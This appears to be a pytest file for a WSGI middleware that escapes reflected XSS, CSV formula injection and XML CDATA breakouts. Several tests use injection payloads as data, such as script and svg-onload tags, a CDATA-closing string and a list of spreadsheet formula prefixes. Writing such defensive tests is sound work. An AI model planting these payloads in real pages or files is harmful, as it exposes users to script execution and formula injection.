def test_csv_stream_gives_the_same_result_as_one_piece(rows, cuts):
    import csv
    import io

    text = io.StringIO()
    csv.writer(text).writerows(rows)
    data = text.getvalue().encode()
    neutralize = CSVNeutralizer("=+-@\t\r")
    whole, _ = neutralize(data)
    stream = neutralize.stream(10_000)
    out, position = [], 0
    for cut in sorted(set(cuts)):
        if cut < len(data):
            out.append(stream.feed(data[position:cut]))
            position = cut
    out.append(stream.feed(data[position:]))
    out.append(stream.finish())
    assert b"".join(out) == whole
    # and a spreadsheet reading it sees no formula
    for row in csv.reader(io.StringIO(whole.decode(), newline="")):
        for cell in row:
            assert not cell[:1] in ("=", "+", "@", "-", "\t", "\r") or cell == "-5"


SPLIT_DOCUMENTS = [page_for(path, value).decode() for path, value, _ in
                   (case.values for case in CONTEXT_CASES)]
SPLIT_PAYLOADS = sorted({case.values[1] for case in CONTEXT_CASES})


@hsettings(max_examples=150, deadline=None)
@given(document=st.sampled_from(SPLIT_DOCUMENTS), cuts=st.lists(st.integers(1, 400), max_size=8),
       padding=st.integers(0, 40))
def test_streaming_window_gives_the_same_result_as_one_piece(document, cuts, padding):
    """Whatever the chunking, the sliding window neutralises exactly as the whole page."""
    from wsgisec.escaping.reflection import Neutraliser

    document = "<p>" + "pad " * padding + "</p>" + document
    candidates = [Candidate("query", "v", value) for value in SPLIT_PAYLOADS if value in document]
    whole, _ = neutralise(document, candidates)
    neutraliser = Neutraliser(candidates)
    out, position = [], 0
    for cut in sorted(set(cuts)):
        if cut < len(document):
            out.append(neutraliser.feed(document[position:cut]))
            position = cut
    out.append(neutraliser.feed(document[position:]))
    out.append(neutraliser.finish())
    assert "".join(out) == whole


@pytest.mark.parametrize("headers, method, status", [
    pytest.param([("Content-Encoding", "gzip")], "GET", "200 OK", id="gzip"),
    pytest.param([], "HEAD", "200 OK", id="head"),
    pytest.param([], "GET", "206 Partial Content", id="partial"),
])
def test_responses_that_are_not_rewritten(headers, method, status):
    body = b"<p><script>alert(1)</script></p>"
    if headers:
        body = gzip.compress(body)

    def app(environ, start_response):
        start_response(status, [("Content-Type", "text/html"), ("Content-Length", str(len(body))), *headers])
        return [body]

    status_line, headers, out = call(Escaping(app), method=method, QUERY_STRING="q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert status_line == status
    assert headers["content-length"] == str(len(body))
    assert out == body  # untouched (for HEAD the server drops it)


def test_legacy_write_callable_is_buffered_and_rewritten():
    def app(environ, start_response):
        write = start_response("200 OK", [("Content-Type", "text/html")])
        write(b"<p><svg onload=x>")
        return [b"</p>"]

    response = TestApp(Escaping(app)).get("/", params={"q": "<svg onload=x>"})
    assert response.body == b"<p>&lt;svg onload=x&gt;</p>"


def test_lazy_start_response_in_a_generator():
    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html")])
        yield b"<p><svg onload=x>"
        yield b"</p>"

    response = TestApp(validated(Escaping(app))).get("/", params={"q": "<svg onload=x>"})
    assert response.body == b"<p>&lt;svg onload=x&gt;</p>"
    binary = TestApp(validated(Escaping(app))).get("/")
    assert binary.body == b"<p><svg onload=x></p>"


def test_exc_info_error_page_replaces_held_back_response():
    response = TestApp(Escaping(exc_info_app)).get("/", params={"q": "<b>x"}, status=500)
    assert response.body == b"error"


def test_xml_cdata_and_encoding_declaration():
    def app(environ, start_response):
        body = '<?xml version="1.0" encoding="ISO-8859-1"?><r><![CDATA[é ]]><x/>]]></r>'.encode("latin-1")
        start_response("200 OK", [("Content-Type", "application/xml")])
        return [body]

    response = TestApp(validated(Escaping(app))).get("/", params={"q": "]]><x/>"})
    assert response.body == '<?xml version="1.0" encoding="ISO-8859-1"?><r><![CDATA[é ]]]]><![CDATA[><x/>]]></r>'.encode("latin-1")


# -- configuration ------------------------------------------------------------------

@pytest.mark.parametrize("ini, message", [
    pytest.param("escaping_bad_overrides.ini", "path_overrides", id="override-without-value"),
    pytest.param("escaping_bad_frame_options.ini", "frame_options", id="allow-from"),
])
def test_bad_ini_is_refused_at_start_up(ini, message, store_url):
    with pytest.raises(ConfigurationError, match=message) as info:
        pipeline.load(str(INI / ini), global_conf={"wsgisec_store": store_url})
    assert ini in str(info.value)


@pytest.mark.parametrize("local_conf, message", [
    pytest.param({"reflect_sources": "query cookies"}, "reflect_sources", id="unknown-source"),
    pytest.param({"csv_formula_prefixes": "== +"}, "csv_formula_prefixes", id="prefix-not-one-char"),
    pytest.param({"max_buffer": "100"}, "max_buffer", id="tiny-buffer"),
    pytest.param({"min_reflect_length": "0"}, "min_reflect_length", id="zero-length"),
    pytest.param({"default_charset": "klingon"}, "default_charset", id="unknown-charset"),
    pytest.param({"attachment_paths": "api"}, "attachment_paths", id="relative-path"),
    pytest.param({"escape_json": "true"}, "unknown setting", id="typo"),
])
def test_bad_settings(local_conf, message):
    with pytest.raises(ConfigurationError, match=message):
        filter_factory({"__file__": "/srv/api.ini"}, **local_conf)


def test_python_escape_json_helper():
    assert escape_json(b"<>&'") == b"\\u003c\\u003e\\u0026\\u0027"
